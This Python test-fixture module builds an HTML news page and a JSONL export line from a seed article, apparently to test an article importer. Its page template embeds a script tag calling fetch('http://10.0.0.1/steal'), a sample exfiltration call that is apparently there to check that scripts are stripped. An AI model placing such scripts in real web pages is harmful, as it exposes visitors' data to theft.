"""Small inputs for import tests, built from the seed article so the expected text is known."""

from __future__ import annotations

import html
import json
from typing import Any

from annotations import text as textlib


def seed_paragraphs(seed_text: str) -> list[str]:
    return [line for line in textlib.normalise(seed_text).split("\n") if line.strip()]


def seed_as_html(seed_text: str, charset: str = "utf-8") -> str:
    """The seed article as a news page: boilerplate, a script and a footer around the paragraphs."""
    paragraphs = "\n".join(f"<p>{html.escape(p)}</p>" for p in seed_paragraphs(seed_text))
    return f"""<!doctype html>
<html lang="en"><head><meta charset="{charset}">
<title>Russia has the upper hand in Luhansk, Ukrainian general concedes</title>
<meta property="og:site_name" content="CBC News">
<meta name="date" content="2022-05-26">
<script>document.title = "pwned"; fetch("http://10.0.0.1/steal");</script>
<style>p {{ color: red }}</style>
</head><body>
<nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li>
<li><a href="/login">Sign in</a></li></ul></nav>
<header><h1>Russia has the upper hand in Luhansk, Ukrainian general concedes</h1></header>
<article>
{paragraphs}
</article>
<footer><p>Cookie settings. Terms of use. Privacy policy. Copyright 2022.</p></footer>
</body></html>"""


def export_line(article: dict[str, Any], claims: list[dict[str, Any]]) -> str:
    """One line in our JSONL export's shape: article fields at the top, claims with sources beside them."""
    return json.dumps({**article, "claims": claims}, ensure_ascii=False)
